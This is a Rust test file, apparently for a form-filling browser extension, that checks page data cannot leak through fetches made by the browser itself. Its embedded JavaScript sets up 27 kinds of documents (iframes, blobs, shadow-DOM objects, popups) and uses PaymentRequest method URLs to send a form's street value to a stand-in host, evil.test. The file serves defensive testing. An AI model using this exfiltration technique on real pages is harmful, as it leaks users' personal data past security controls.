//! Fetches of the browser itself. No rule of an extension controls them, only the content security policy of a document
//! does. So every document in which a page can cause such a fetch needs a policy, however the page created it.

use std::time::Duration;

use crate::egress::until_quiet;
use crate::stage::{FORM, REQUEST, Stage, wait_for_absence, wait_until};

/// Makes a document of the page's own origin in each of these ways, and has the browser fetch something for each of
/// them.
const MAKES: &str = r#"<script>
  const to = 'https://evil.test:PORT/';
  const made = {};
  const frame = (set, into = document.body) => {
    const el = document.createElement('iframe');
    set(el);
    into.append(el);
    return () => el.contentWindow;
  };
  const closed = (into) => into.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
  const blob = (type, text) => URL.createObjectURL(new Blob([text], { type }));
  const ways = {
    blank: () => frame(() => {}),
    nothing: () => frame((el) => { el.src = '/nothing'; }),
    script: () => frame((el) => { el.src = "javascript:'<p>x</p>'"; }),
    srcdoc: () => frame((el) => { el.srcdoc = '<p>x</p>'; }),
    blob: () => frame((el) => { el.src = blob('text/html', '<p>x</p>'); }),
    unreadable: () => frame((el) => { el.src = blob('text/xml', '<!'); }),
    written: () => {
      const made = frame(() => {});
      const written = made().document;
      written.open();
      written.write('<p>x</p>');
      written.close();
      return made;
    },
    rootless: () => {
      const made = frame((el) => { el.src = '/page'; });
      setTimeout(() => made().document.documentElement?.remove(), 300);
      return made;
    },
    page: () => frame((el) => { el.src = '/page'; }),
    text: () => frame((el) => { el.src = '/note.txt'; }),
    picture: () => frame((el) => { el.src = '/dot.png'; }),
    film: () => frame((el) => { el.src = '/film.mp4'; }),
    data: () => frame((el) => { el.src = '/data.json'; }),
    drawn: () => frame((el) => { el.src = '/drawn.svg'; }),
    broken: () => frame((el) => { el.src = '/broken.svg'; }),
    late: () => frame((el) => { el.src = '/late.svg'; }),
    empty: () => frame((el) => { el.src = '/empty.xml'; }),
    styled: () => frame((el) => { el.src = '/styled.xml'; }),
    object: () => {
      const el = document.body.appendChild(Object.assign(document.createElement('object'), { data: '/broken.svg' }));
      return () => el.contentWindow;
    },
    embed: () => {
      const el = document.body.appendChild(Object.assign(document.createElement('embed'), { src: '/broken.svg' }));
      return () => el.getSVGDocument()?.defaultView ?? el.contentWindow;
    },
    nested: () => {
      const outer = frame(() => {});
      return frame((el) => { el.src = '/broken.svg'; }, outer().document.body);
    },
    shadow: () => frame((el) => { el.src = '/broken.svg'; }, closed(document.body)),
    objectInShadow: () => {
      const el = closed(closed(document.body)).appendChild(Object.assign(document.createElement('object'), { data: '/broken.svg' }));
      return () => el.contentWindow;
    },
    embedInShadow: () => {
      const el = closed(document.body).appendChild(Object.assign(document.createElement('embed'), { src: '/broken.svg' }));
      return () => el.getSVGDocument().defaultView;
    },
    shadowWithin: () => {
      const outer = frame(() => {});
      return frame((el) => { el.src = '/broken.svg'; }, closed(outer().document.body));
    },
    windowOfPage: () => { const w = open('/page'); return () => w; },
    windowOfBroken: () => { const w = open('/broken.svg'); return () => w; },
  };
  const make = (when) => { for (const [name, way] of Object.entries(ways)) made[when + name] = way(); };
  const fetched = (name, what) => {
    try {
      const Request = made[name]().PaymentRequest;
      new Request([{ supportedMethods: `${to}${name}/${what}` }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } })
        .canMakePayment().catch(() => {});
    } catch { refused.push(name); }
  };
  let refused = [];
  const send = () => {
    refused = [];
    const what = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
    for (const name of Object.keys(made)) fetched(name, what);
  };
  </script>"#;

#[test]
fn the_browser_fetches_nothing_for_any_document_of_a_page_with_values() {
    let mut stage = Stage::new(27);
    stage.site.put("shop.test/checkout", &format!("{FORM}{MAKES}"));
    stage.site.put("shop.test/page", "<!doctype html><p>x</p>");
    stage.site.put("shop.test/drawn.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
    stage.site.put("shop.test/broken.svg", "<!doctype html><p>no XML");
    stage.site.put("shop.test/late.svg", "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>");
    stage.site.put("shop.test/empty.xml", "");
    stage.site.put("shop.test/styled.xml", "<?xml-stylesheet type='text/xsl' href='/none.xsl'?><a/>");
    stage.serve(true);
    stage.browse();
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    stage.browser().evaluate("make('')");
    let ways = stage.browser().evaluate("Object.keys(ways)");
    let ways: Vec<&str> = ways.as_array().unwrap().iter().map(|way| way.as_str().unwrap()).collect();
    assert_eq!(ways.len(), 27);

    // Without a value in it, the page can have the browser fetch anything, in each of these ways.
    wait_until(|| {
        stage.browser().evaluate("send()");
        let sent = until_quiet(&stage);
        let missing: Vec<_> =
            ways.iter().filter(|way| !sent.contains(&format!("evil.test /{way}/"))).collect();
        if missing.is_empty() { Ok(()) } else { Err(format!("{missing:?} did not arrive")) }
    });

    // A window whose document the extension cannot control: nothing is filled until it is closed. Documents that are
    // open when the task starts are reloaded.
    stage.browser().at_question("closeOthers", &serde_json::json!({}));
    stage.task();
    stage.agent_until(None, "Deliver to");
    stage.browser().evaluate("make('')");
    stage.browser().front();
    let reply = stage.agent_until(Some(REQUEST), "egress_blocked");
    assert!(reply.contains("egress_blocked"), "{reply}");
    stage.browser().evaluate("made.windowOfBroken().close()");
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply}");
    let before = until_quiet(&stage);
    assert_eq!(stage.browser().values()["street"], stage.value("street"));
    stage.browser().evaluate("delete made.windowOfBroken");
    everything_is_refused(&mut stage, &before);

    // The same holds for later documents, with or without a content script in them.
    stage.browser().evaluate("make('later ')");
    // The page gets no event when the content scripts of its frames have run.
    wait_for_absence(Duration::from_secs(3));
    everything_is_refused(&mut stage, &before);
    stage.no_value_got_out();
}

fn everything_is_refused(stage: &mut Stage, before: &str) {
    stage.browser().evaluate("send()");
    assert_eq!(until_quiet(stage), before, "the browser fetched something for a page with values");
    // The documents still exist, so their absence is not the reason.
    assert_eq!(
        stage.browser().evaluate("refused.join()"),
        stage.browser().evaluate("Object.keys(made).join()")
    );
}
